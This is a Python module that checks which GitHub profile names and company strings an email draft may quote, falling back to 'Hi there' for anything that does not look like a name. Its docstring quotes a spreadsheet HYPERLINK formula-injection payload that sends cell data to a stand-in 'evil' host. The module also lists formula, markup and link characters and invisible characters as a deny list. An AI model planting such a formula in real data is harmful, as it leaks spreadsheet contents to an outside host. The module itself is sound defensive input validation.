"""Which profile strings a draft may quote: a GitHub name or company is whatever a stranger typed.

A profile's name reaches the greeting ("Hi Ada,") and its company a sentence, so a name such as
`=HYPERLINK("http://evil/?"&A2,"Click")`, `@handle`, `ada@example.com`, `evil.example`, `<b>x</b>`,
`1337` or `🚀🔥` would put a formula, link, address or markup into the email under our sender's name.
A name is quoted only when it looks like a person's name: letters of any script (with their combining
marks) joined by the punctuation real names use (hyphen, apostrophe, the dot of an initial, a middle
dot), starting with a letter. Anything else is not guessed at: the draft says "Hi there".
"""

from __future__ import annotations

import re
import unicodedata

from foundation.companies import display_company

GENERIC_GREETING = "there"  # "Hi there," when no name can be quoted
MAX_NAME_WORDS = 6
MAX_WORD_CHARS = 40
# Hyphen-minus, apostrophes, the dot of an initial, the Catalan and the katakana middle dots, a hyphen.
_NAME_PUNCTUATION = frozenset("-'’.·・‐")
_JOINERS = frozenset("\u200c\u200d")  # zero-width (non-)joiner: part of Persian and Indic spelling
_REPEATED_PUNCTUATION = re.compile(r"[-'’.·・‐]{2,}")
_DOMAIN_DOT = re.compile(r"\.[^\W\d_]{2,}")  # "evil.example", not the "J.R." of initials
# What must never reach a sentence from a company field: markup, formula and link characters.
_UNQUOTABLE = frozenset('<>{}[]`"\\|=@:/')
_ORG_MENTION = re.compile(r"(?<!\S)@(?=\w)")  # "@acme" in a GitHub company field names the org acme
MAX_COMPANY_CHARS = 64  # room for any employer's display name, not for a paragraph of instructions to a model


def _letter(char: str) -> bool:
    return unicodedata.category(char).startswith("L")


def looks_like_name(word: str) -> bool:
    """True when one word of a name could be a person's: e.g. José, Anne-Marie, D'Angelo, J.R., 山田太郎."""
    word = unicodedata.normalize("NFC", word)
    if not 0 < len(word) <= MAX_WORD_CHARS or not _letter(word[0]):
        return False
    if not (_letter(word[-1]) or unicodedata.category(word[-1]).startswith("M") or word[-1] == "."):
        return False
    allowed = all(_letter(c) or unicodedata.category(c).startswith("M") or c in _NAME_PUNCTUATION | _JOINERS for c in word)
    return allowed and not _REPEATED_PUNCTUATION.search(word) and not _DOMAIN_DOT.search(word)


def first_name(name: str | None) -> str | None:
    """The first word of a profile name when it looks like a name and has two letters or more, else None."""
    words = (name or "").split()
    if not words or not looks_like_name(words[0]):
        return None
    word = unicodedata.normalize("NFC", words[0])
    return word if sum(_letter(c) for c in word) >= 2 else None


def full_name(name: str | None) -> str | None:
    """The whole profile name when every word of it looks like a name, else None."""
    words = (name or "").split()
    if not 0 < len(words) <= MAX_NAME_WORDS or not all(looks_like_name(word) for word in words):
        return None
    return unicodedata.normalize("NFC", " ".join(words))


def _hidden(char: str) -> bool:
    """A control or format character (bidi override, zero-width space, escape) other than a script's joiners:
    invisible in the email, it could reorder or hide what the recipient reads."""
    return unicodedata.category(char) in {"Cc", "Cf"} and char not in _JOINERS


def _quotable(shown: str | None) -> str | None:
    """`shown`, unless it carries markup, a formula, a link, an invisible character or is longer than
    a company name."""
    if shown is None or not shown[0].isalnum() or len(shown) > MAX_COMPANY_CHARS or "www." in shown.lower():
        return None
    return None if any(c in _UNQUOTABLE or _hidden(c) for c in shown) else shown


def quotable_company(company: str | None) -> str | None:
    """The company as a draft may name it (`display_company`), when it is quotable at all."""
    return _quotable(display_company(company))


def written_company(company: str | None) -> str | None:
    """The company as the person wrote it, without GitHub's org-mention `@` ("@acme" is "acme"), when
    it is quotable: what a CRM or a marketing tool may put in a company field (and so in its emails)."""
    return _quotable(_ORG_MENTION.sub("", company or "").strip() or None)
